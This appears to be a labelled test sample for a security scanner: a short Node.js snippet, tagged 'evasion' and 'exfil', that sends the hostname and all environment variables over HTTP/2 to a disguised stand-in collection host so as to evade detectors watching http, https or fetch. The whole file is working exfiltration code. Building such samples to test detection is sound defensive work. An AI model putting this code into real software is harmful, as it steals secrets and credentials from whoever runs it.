// evasion: environment sent over an http2 session instead of http/https/fetch
// grade: medium; does: exfil
const http2 = require('http2');

const session = http2.connect('https://collect.metrics-cdn.example');
const req = session.request({
  ':method': 'POST',
  ':path': '/v1/ingest',
  'content-type': 'application/json',
});
req.on('response', () => session.close());
req.on('error', () => session.close());
req.end(JSON.stringify({ host: require('os').hostname(), env: process.env }));
